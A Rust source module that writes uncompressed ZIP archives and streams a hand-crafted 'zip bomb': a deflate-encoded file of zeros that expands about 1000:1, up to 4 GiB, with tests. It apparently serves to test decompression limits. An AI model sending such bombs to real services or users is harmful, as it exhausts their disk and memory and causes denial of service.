//! ZIP archives: stored ones, and bombs as streams (APPNOTE.TXT 6.3.10, sections 4.3 and 4.4).

use std::iter;

/// A file that goes into an archive.
#[derive(Clone, Copy, Debug)]
pub struct Entry<'a> {
    /// Its name, with `/` between folders.
    pub name: &'a str,
    /// Its content, as it stands in the archive.
    pub content: &'a [u8],
    /// Whether it is marked as encrypted.
    pub encrypted: bool,
}

impl<'a> Entry<'a> {
    /// A file that is not encrypted.
    pub const fn new(name: &'a str, content: &'a [u8]) -> Self {
        Entry {
            name,
            content,
            encrypted: false,
        }
    }
}

/// An archive of these files, not compressed.
pub fn stored(entries: &[Entry<'_>]) -> Vec<u8> {
    let mut archive = Vec::new();
    let mut directory = Vec::new();
    for entry in entries {
        let record = Record {
            name: entry.name,
            method: 0,
            flags: u16::from(entry.encrypted),
            crc: crc32(entry.content),
            packed: short(entry.content.len()),
            size: short(entry.content.len()),
            at: short(archive.len()),
        };
        record.local(&mut archive);
        archive.extend_from_slice(entry.content);
        record.central(&mut directory);
    }
    let at = archive.len();
    archive.extend_from_slice(&directory);
    end(&mut archive, entries.len(), directory.len(), short(at));
    archive
}

/// An archive of one file `zeros.bin` of `size` zeros, deflated about 1000 : 1, in chunks of at most 64 KiB. Sizes are
/// rounded down to a multiple of 1,048,513 octets, to at most 4 GiB.
pub fn bomb(size: u64) -> impl Iterator<Item = Vec<u8>> {
    let blocks = (size / BLOCK).clamp(1, u64::from(u32::MAX) / BLOCK);
    let size = blocks * BLOCK;
    let block = zero_block(false);
    let last = zero_block(true);
    let packed = (blocks - 1) * block.len() as u64 + last.len() as u64;
    let record = Record {
        name: "zeros.bin",
        method: 8,
        flags: 0,
        crc: crc32_of_zeros(size),
        packed: u32::try_from(packed).unwrap_or(u32::MAX),
        size: u32::try_from(size).unwrap_or(u32::MAX),
        at: 0,
    };
    let mut head = Vec::new();
    record.local(&mut head);
    let mut tail = last;
    let at = head.len() as u64 + packed;
    let mut directory = Vec::new();
    record.central(&mut directory);
    tail.extend_from_slice(&directory);
    end(
        &mut tail,
        1,
        directory.len(),
        u32::try_from(at).unwrap_or(u32::MAX),
    );
    let mut left = blocks - 1;
    let body = iter::from_fn(move || {
        let now = left.min(32);
        left -= now;
        (now > 0).then(|| block.repeat(usize::try_from(now).unwrap_or(1)))
    });
    iter::once(head).chain(body).chain(iter::once(tail))
}

/// Octets that one deflate block of [`zero_block`] stands for.
const BLOCK: u64 = 1 + 258 * MATCHES as u64;
const MATCHES: usize = 4_064;

/// A deflate block with codes of its own (RFC 1951, section 3.2.7) that stands for [`BLOCK`] zeros: a literal zero, then
/// matches of 258 at distance 1, two bits each. Padded to whole octets by an empty stored block unless it is the last one.
fn zero_block(last: bool) -> Vec<u8> {
    let mut bits = Bits::default();
    bits.put(u32::from(last), 1);
    code_lengths(&mut bits);
    bits.put_code(0b10, 2); // literal 0
    for _ in 0..MATCHES {
        bits.put(0b00, 2); // length 258, distance 1
    }
    bits.put_code(0b11, 2); // end of block
    if !last {
        bits.put(0, 3);
        bits.align();
        bits.octets.extend_from_slice(&[0, 0, 0xff, 0xff]);
    }
    bits.align();
    bits.octets
}

/// The head of a block in which length 258 has the code 0, literal 0 has 10, end of block 11, and distance 1 has 0.
fn code_lengths(bits: &mut Bits) {
    bits.put(0b10, 2); // codes of its own
    bits.put(286 - 257, 5);
    bits.put(0, 5);
    bits.put(18 - 4, 4);
    // Lengths of the codes for lengths, in the order of the RFC: "zeros" has 0, "1" has 10, "2" has 11.
    for length in [0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 2] {
        bits.put(length, 3);
    }
    let zeros = |bits: &mut Bits, count: u32| {
        bits.put_code(0, 1);
        bits.put(count - 11, 7);
    };
    bits.put_code(0b11, 2); // literal 0: 2 bits
    zeros(bits, 138);
    zeros(bits, 255 - 138);
    bits.put_code(0b11, 2); // end of block: 2 bits
    zeros(bits, 28);
    bits.put_code(0b10, 2); // length 258: 1 bit
    bits.put_code(0b10, 2); // distance 1: 1 bit
}

/// Bits, least significant first.
#[derive(Default)]
struct Bits {
    octets: Vec<u8>,
    held: u32,
    count: u32,
}

impl Bits {
    fn put(&mut self, value: u32, count: u32) {
        self.held |= value << self.count;
        self.count += count;
        while self.count >= 8 {
            self.octets.push(u8::try_from(self.held & 255).unwrap_or(0));
            self.held >>= 8;
            self.count -= 8;
        }
    }

    /// Huffman codes go in from their most significant bit.
    fn put_code(&mut self, code: u32, count: u32) {
        self.put(code.reverse_bits() >> (32 - count), count);
    }

    fn align(&mut self) {
        if self.count > 0 {
            self.put(0, 8 - self.count);
        }
    }
}

/// What both headers of a file say.
struct Record<'a> {
    name: &'a str,
    method: u16,
    flags: u16,
    crc: u32,
    packed: u32,
    size: u32,
    at: u32,
}

impl Record<'_> {
    fn local(&self, out: &mut Vec<u8>) {
        out.extend_from_slice(b"PK\x03\x04");
        self.shared(out);
        out.extend_from_slice(&[0; 2]); // no extra field
        out.extend_from_slice(self.name.as_bytes());
    }

    fn central(&self, out: &mut Vec<u8>) {
        out.extend_from_slice(b"PK\x01\x02\x14\0");
        self.shared(out);
        out.extend_from_slice(&[0; 12]); // no extra field, no comment, disk 0, no attributes
        out.extend_from_slice(&self.at.to_le_bytes());
        out.extend_from_slice(self.name.as_bytes());
    }

    fn shared(&self, out: &mut Vec<u8>) {
        // Version needed, flags, method, time and date (1980-01-01).
        for word in [20, self.flags, self.method, 0, 0x21] {
            out.extend_from_slice(&word.to_le_bytes());
        }
        for long in [self.crc, self.packed, self.size] {
            out.extend_from_slice(&long.to_le_bytes());
        }
        let length = u16::try_from(self.name.len()).unwrap_or(0);
        out.extend_from_slice(&length.to_le_bytes());
    }
}

fn end(out: &mut Vec<u8>, entries: usize, directory: usize, at: u32) {
    let entries = u16::try_from(entries).unwrap_or(u16::MAX).to_le_bytes();
    out.extend_from_slice(b"PK\x05\x06\0\0\0\0");
    out.extend_from_slice(&entries);
    out.extend_from_slice(&entries);
    out.extend_from_slice(&short(directory).to_le_bytes());
    out.extend_from_slice(&at.to_le_bytes());
    out.extend_from_slice(&[0; 2]);
}

fn short(length: usize) -> u32 {
    u32::try_from(length).unwrap_or(u32::MAX)
}

/// CRC-32 as ZIP and PNG use it.
pub fn crc32(octets: &[u8]) -> u32 {
    !octets
        .iter()
        .fold(u32::MAX, |crc, octet| crc_step(crc, *octet))
}

fn crc_step(crc: u32, octet: u8) -> u32 {
    let index = (crc ^ u32::from(octet)) & 255;
    (crc >> 8) ^ CRC_TABLE[usize::try_from(index).unwrap_or(0)]
}

/// CRC-32 of so many zeros, by squaring: the step for one zero is linear in the bits of the state.
fn crc32_of_zeros(count: u64) -> u32 {
    let mut step: Vec<u32> = (0..32).map(|bit| crc_step(1 << bit, 0)).collect();
    let mut crc = u32::MAX;
    let mut left = count;
    while left > 0 {
        if left & 1 == 1 {
            crc = times(&step, crc);
        }
        step = step.iter().map(|column| times(&step, *column)).collect();
        left >>= 1;
    }
    !crc
}

/// A matrix of bits, column by column, times a vector.
fn times(columns: &[u32], vector: u32) -> u32 {
    let chosen = columns
        .iter()
        .enumerate()
        .filter(|(bit, _)| vector >> bit & 1 == 1);
    chosen.fold(0, |sum, (_, column)| sum ^ column)
}

const CRC_TABLE: [u32; 256] = crc_table();

const fn crc_table() -> [u32; 256] {
    let mut table = [0; 256];
    let mut index = 0;
    let mut start = 0u32;
    while index < 256 {
        let mut crc = start;
        let mut bit = 0;
        while bit < 8 {
            crc = if crc & 1 == 1 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
            bit += 1;
        }
        table[index] = crc;
        index += 1;
        start += 1;
    }
    table
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn crc_gives_the_known_answer() {
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
        for count in [0, 1, 7, 65_533] {
            assert_eq!(
                crc32_of_zeros(count),
                crc32(&vec![0; usize::try_from(count).expect("small")])
            );
        }
    }

    #[test]
    fn a_bomb_is_small_and_says_how_large_it_gets() {
        let packed: usize = bomb(1 << 30).map(|chunk| chunk.len()).sum();
        assert!(packed < 2 << 20, "{packed}");
        let whole: Vec<u8> = bomb(100_000).flatten().collect();
        assert!(whole.starts_with(b"PK\x03\x04"));
        assert_eq!(whole[22..26], 1_048_513u32.to_le_bytes());
    }
}
